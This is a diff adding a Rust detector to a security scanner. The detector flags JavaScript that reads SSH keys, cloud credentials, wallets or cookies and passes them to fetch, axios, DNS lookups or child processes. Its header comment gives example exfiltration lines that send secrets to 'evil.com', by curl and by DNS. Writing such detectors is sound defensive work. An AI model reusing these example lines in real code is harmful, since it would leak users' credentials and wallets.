@@ -0,0 +1,255 @@
+//! Detector for sensitive-file-read-to-network/DNS/process data-flow chains.
+//!
+//! Detects patterns like:
+//! - `const key = fs.readFileSync(sshKeyPath); fetch(url, {method: 'POST', body: key})`
+//! - `const creds = fs.readFileSync(awsCredsPath); axios.post(url, creds)`
+//! - `const wallet = await fs.promises.readFile(walletPath); dns.lookup(encode(wallet) + '.evil.com', cb)`
+//! - `const cookies = fs.readFileSync(cookiesPath); exec('curl -d ' + cookies + ' evil.com')`
+
+use super::Detector;
+use crate::analyzers::ast::resolve_sensitive_file_source;
+use crate::analyzers::ast::rules::{AstRuleEntry, DangerousLists};
+use crate::analyzers::ast::scope::{ResolvedValue, ScopeTracker};
+use crate::types::{Finding, Location};
+use std::path::Path;
+use std::sync::Arc;
+use tree_sitter::Node;
+
+/// `dns`/`dns.promises` functions whose hostname argument is a common DNS
+/// exfiltration channel.
+const DNS_SINK_FUNCTIONS: &[&str] = &[
+    "lookup",
+    "resolve",
+    "resolve4",
+    "resolve6",
+    "resolveTxt",
+    "resolveMx",
+    "reverse",
+];
+
+/// `axios` methods that send a request body.
+const AXIOS_SINK_METHODS: &[&str] = &["post", "put", "patch", "request"];
+
+pub struct SensitiveFileExfilChainDetector {
+    lists: Arc<DangerousLists>,
+    rule: AstRuleEntry,
+}
+
+impl SensitiveFileExfilChainDetector {
+    pub fn new(rule: AstRuleEntry, lists: Arc<DangerousLists>) -> Self {
+        Self { rule, lists }
+    }
+
+    /// Identify whether `callee` is a call sink that could carry data off
+    /// the host (network request, DNS lookup, or child process), returning
+    /// a short label for the finding text.
+    fn sink_kind(
+        &self,
+        callee: Node,
+        source: &str,
+        scope_tracker: &ScopeTracker,
+    ) -> Option<&'static str> {
+        match callee.kind() {
+            "identifier" => {
+                let name = callee.utf8_text(source.as_bytes()).ok()?;
+                if name == "fetch" {
+                    return Some("network");
+                }
+                if let ResolvedValue::ImportResult {
+                    module,
+                    export: Some(export),
+                } = scope_tracker.resolve(name)
+                {
+                    if self.lists.is_dangerous_module(&module)
+                        && self.lists.is_dangerous_export(&module, &export)
+                    {
+                        return Some("child_process");
+                    }
+                }
+                None
+            }
+            "member_expression" => {
+                let property = callee.child_by_field_name("property")?;
+                let property_name = property.utf8_text(source.as_bytes()).ok()?;
+                let object = callee.child_by_field_name("object")?;
+                if object.kind() != "identifier" {
+                    return None;
+                }
+                let object_name = object.utf8_text(source.as_bytes()).ok()?;
+
+                match object_name {
+                    "http" | "https" if property_name == "request" || property_name == "get" => {
+                        Some("network")
+                    }
+                    "axios" if AXIOS_SINK_METHODS.contains(&property_name) => Some("network"),
+                    "dns" if DNS_SINK_FUNCTIONS.contains(&property_name) => Some("dns"),
+                    _ => {
+                        if let ResolvedValue::ImportResult {
+                            module,
+                            export: None,
+                        } = scope_tracker.resolve(object_name)
+                        {
+                            if self.lists.is_dangerous_module(&module)
+                                && self.lists.is_dangerous_export(&module, property_name)
+                            {
+                                return Some("child_process");
+                            }
+                        }
+                        None
+                    }
+                }
+            }
+            _ => None,
+        }
+    }
+
+    /// Search `node` (an argument to a sink call, possibly an options
+    /// object like `{body: key}`) for a reference to previously-tracked
+    /// sensitive file contents.
+    fn find_sensitive_reference(
+        &self,
+        node: Node,
+        source: &str,
+        scope_tracker: &ScopeTracker,
+        depth: usize,
+    ) -> Option<String> {
+        if depth > 3 {
+            return None;
+        }
+
+        match node.kind() {
+            "identifier" => {
+                let name = node.utf8_text(source.as_bytes()).ok()?;
+                match scope_tracker.resolve(name) {
+                    ResolvedValue::SensitiveFileData(pattern_id) => Some(pattern_id),
+                    _ => None,
+                }
+            }
+            "await_expression" => self.find_sensitive_reference(
+                node.named_child(0)?,
+                source,
+                scope_tracker,
+                depth + 1,
+            ),
+            "call_expression" => {
+                resolve_sensitive_file_source(node, source, scope_tracker, &self.lists, 0)
+            }
+            "binary_expression" => {
+                let left = node.child_by_field_name("left")?;
+                let right = node.child_by_field_name("right")?;
+                self.find_sensitive_reference(left, source, scope_tracker, depth + 1)
+                    .or_else(|| {
+                        self.find_sensitive_reference(right, source, scope_tracker, depth + 1)
+                    })
+            }
+            "object" => {
+                let mut cursor = node.walk();
+                let result = node.named_children(&mut cursor).find_map(|pair| {
+                    if pair.kind() != "pair" {
+                        return None;
+                    }
+                    let value = pair.child_by_field_name("value")?;
+                    self.find_sensitive_reference(value, source, scope_tracker, depth + 1)
+                });
+                result
+            }
+            _ => None,
+        }
+    }
+}
+
+impl Detector for SensitiveFileExfilChainDetector {
+    fn rule_id(&self) -> &str {
+        &self.rule.id
+    }
+
+    fn title(&self) -> &str {
+        &self.rule.title
+    }
+
+    fn handled_node_types(&self) -> &'static [&'static str] {
+        &["call_expression"]
+    }
+
+    fn analyze(
+        &self,
+        node: Node,
+        source: &str,
+        path: &Path,
+        scope_tracker: &ScopeTracker,
+    ) -> Vec<Finding> {
+        if node.kind() != "call_expression" {
+            return Vec::new();
+        }
+
+        let callee = match node.child_by_field_name("function") {
+            Some(c) => c,
+            None => return Vec::new(),
+        };
+        let Some(sink) = self.sink_kind(callee, source, scope_tracker) else {
+            return Vec::new();
+        };
+
+        let args = match node.child_by_field_name("arguments") {
+            Some(a) => a,
+            None => return Vec::new(),
+        };
+
+        let mut cursor = args.walk();
+        for arg in args.named_children(&mut cursor) {
+            if let Some(pattern_id) = self.find_sensitive_reference(arg, source, scope_tracker, 0) {
+                return vec![self.finding(node, arg, source, path, sink, pattern_id)];
+            }
+        }
+
+        Vec::new()
+    }
+}
+
+impl SensitiveFileExfilChainDetector {
+    fn finding(
+        &self,
+        node: Node,
+        arg: Node,
+        source: &str,
+        path: &Path,
+        sink: &str,
+        pattern_id: String,
+    ) -> Finding {
+        let snippet = node.utf8_text(source.as_bytes()).unwrap_or("").to_string();
+        let start_line = node.start_position().row + 1;
+        let end_line = node.end_position().row + 1;
+        let sink_desc = match sink {
+            "network" => "a network request",
+            "dns" => "a DNS lookup",
+            "child_process" => "a child process invocation",
+            _ => "an external sink",
+        };
+
+        Finding::new(
+            self.rule_id(),
+            self.title(),
+            format!(
+                "The contents of a file matching the '{pattern_id}' sensitive-file pattern \
+                reach {sink_desc} in the same scope. Reading a secret and then handing it to \
+                code that leaves the process is the canonical shape of credential/wallet \
+                exfiltration.",
+            ),
+            self.rule.severity(),
+            self.rule.category(),
+            Location::new(path.to_path_buf(), start_line, end_line).with_columns(
+                arg.start_position().column + 1,
+                arg.end_position().column + 1,
+            ),
+            snippet,
+        )
+        .with_remediation(&self.rule.remediation)
+        .with_cwe(self.rule.cwe())
+        .with_owasp_llm(self.rule.owasp_llm())
+        .with_attack_technique(self.rule.attack_technique())
+        .with_metadata("technique", "sensitive_file_exfil_chain")
+        .with_metadata("source_pattern", pattern_id)
+        .with_metadata("sink", sink.to_string())
+        .with_metadata("ast_analyzed", "true")
+    }
+}